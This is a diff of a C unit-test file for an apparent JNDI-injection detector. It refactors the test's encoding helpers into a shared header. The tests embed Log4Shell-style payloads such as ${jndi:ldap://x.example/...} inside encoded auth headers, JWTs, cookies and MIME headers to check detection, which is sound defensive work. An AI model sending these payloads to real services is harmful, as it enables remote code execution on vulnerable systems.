@@ -11,6 +11,7 @@
 #include <cmocka.h>
 
 #include <defuse.h>
+#include "test_enc.h"
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -335,54 +336,13 @@ static void dates(void **state) {
 
 /* ---- transport encodings of tokens and mail (issue 9, 10) ---------------- */
 
-static size_t b64enc(const char *s, char *o, bool url, bool pad) {
-    const char *al = url ? "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
-                         : "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    const unsigned char *p = (const unsigned char *)s;
-    size_t n = strlen(s), w = 0, i = 0;
-    for (; i + 3 <= n; i += 3) {
-        uint32_t v = (uint32_t)p[i] << 16 | (uint32_t)p[i + 1] << 8 | p[i + 2];
-        for (int k = 3; k >= 0; k--)
-            o[w++] = al[(v >> (6 * k)) & 63];
-    }
-    if (n - i) {
-        uint32_t v = (uint32_t)p[i] << 16 | (n - i == 2 ? (uint32_t)p[i + 1] << 8 : 0);
-        o[w++] = al[v >> 18];
-        o[w++] = al[(v >> 12) & 63];
-        if (n - i == 2)
-            o[w++] = al[(v >> 6) & 63];
-        for (size_t k = n - i; pad && k < 3; k++)
-            o[w++] = '=';
-    }
-    o[w] = '\0';
-    return w;
+/* Base64 of the string s (test_enc.h). */
+static size_t b64s(const char *s, char *o, bool url, bool pad) {
+    return b64enc(s, strlen(s), o, url, pad);
 }
 
 /* Percent-encodes '+', '/', '=' (as a URL encoder does for a token). */
-static void pct_b64(const char *s, char *o) {
-    size_t w = 0;
-    for (; *s; s++)
-        w += strchr("+/=", *s) ? (size_t)sprintf(o + w, "%%%02X", (unsigned char)*s)
-                               : (size_t)(o[w] = *s, 1);
-    o[w] = '\0';
-}
-
-/* Q / quoted-printable: everything but letters, digits and ".:/-" as =XX
- * (q: ' ' as '_'). */
-static void qenc(const char *s, char *o, bool q) {
-    size_t w = 0;
-    for (; *s; s++) {
-        unsigned char c = (unsigned char)*s;
-        if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
-            strchr(".:/-", c))
-            o[w++] = (char)c;
-        else if (c == ' ' && q)
-            o[w++] = '_';
-        else
-            w += (size_t)sprintf(o + w, "=%02X", c);
-    }
-    o[w] = '\0';
-}
+static void pct_b64(const char *s, char *o) { pctenc(s, "+/=", o); }
 
 /* Exactly one JNDI finding with callback want, whose raw payload lies in
  * in[from..) (the encoded bytes, not the text before them; NULL: in), and
@@ -413,13 +373,13 @@ static void basic_and_form(void **state) {
     (void)state;
     char tok[512], enc[1024], in[2048];
     /* Token whose second character is '+', sent percent-encoded. */
-    b64enc("?\xe2\x82\xac ${jndi:ldap://x.example/basic}", tok, false, true);
+    b64s("?\xe2\x82\xac ${jndi:ldap://x.example/basic}", tok, false, true);
     assert_int_equal(tok[1], '+');
     pct_b64(tok, enc);
     snprintf(in, sizeof in, "GET /?h=Authorization:%%20Basic%%20%s HTTP/1.1", enc);
     expect_one(in, "ldap://x.example/basic", strstr(in, "Basic"));
     /* auth=Basic+TOKEN in a form body. */
-    b64enc("user:${jndi:ldap://x.example/form}", tok, false, true);
+    b64s("user:${jndi:ldap://x.example/form}", tok, false, true);
     pct_b64(tok, enc);
     snprintf(in, sizeof in, "POST /login body=user=a&auth=Basic+%s", enc);
     expect_one(in, "ldap://x.example/form", strstr(in, "Basic"));
@@ -436,24 +396,24 @@ static void basic_and_form(void **state) {
 static void jwt_cookie_mime(void **state) {
     (void)state;
     char h[256], p[512], in[2048], q[512];
-    b64enc("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", h, true, false);
-    b64enc("{\"sub\":\"${jndi:ldap://x.example/jwt}\",\"name\":\"a\"}", p, true, false);
+    b64s("{\"alg\":\"HS256\",\"typ\":\"JWT\"}", h, true, false);
+    b64s("{\"sub\":\"${jndi:ldap://x.example/jwt}\",\"name\":\"a\"}", p, true, false);
     snprintf(in, sizeof in,
              "Authorization: Bearer %s.%s.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c", h, p);
     expect_one(in, "ldap://x.example/jwt", strstr(in, p));
     /* \u0024 inside the claim. */
-    b64enc("{\"sub\":\"\\u0024{jndi:ldap://x.example/jwtu}\"}", p, true, false);
+    b64s("{\"sub\":\"\\u0024{jndi:ldap://x.example/jwtu}\"}", p, true, false);
     snprintf(in, sizeof in, "Cookie: jwt=%s.%s.", h, p);
     expect_one(in, "ldap://x.example/jwtu", strstr(in, p));
     /* Base64 cookie values, standard and URL-safe. */
-    b64enc("${jndi:ldap://x.example/ck?a>b}", p, false, true);
+    b64s("${jndi:ldap://x.example/ck?a>b}", p, false, true);
     snprintf(in, sizeof in, "Cookie: a=%s; b=1", p);
     expect_one(in, "ldap://x.example/ck?a>b", strstr(in, p));
-    b64enc("${jndi:ldap://x.example/ck?a>b}", p, true, false);
+    b64s("${jndi:ldap://x.example/ck?a>b}", p, true, false);
     snprintf(in, sizeof in, "10.0.0.1 \"GET / HTTP/1.1\" 200 \"cookie: a=%s\"", p);
     expect_one(in, "ldap://x.example/ck?a>b", strstr(in, p));
     /* MIME encoded-words. */
-    b64enc("${jndi:ldap://x.example/mime}", p, false, true);
+    b64s("${jndi:ldap://x.example/mime}", p, false, true);
     snprintf(in, sizeof in, "Subject: =?utf-8?b?%s?=", p);
     expect_one(in, "ldap://x.example/mime", strstr(in, "=?"));
     qenc("${jndi:ldap://x.example/q_word}", q, true);
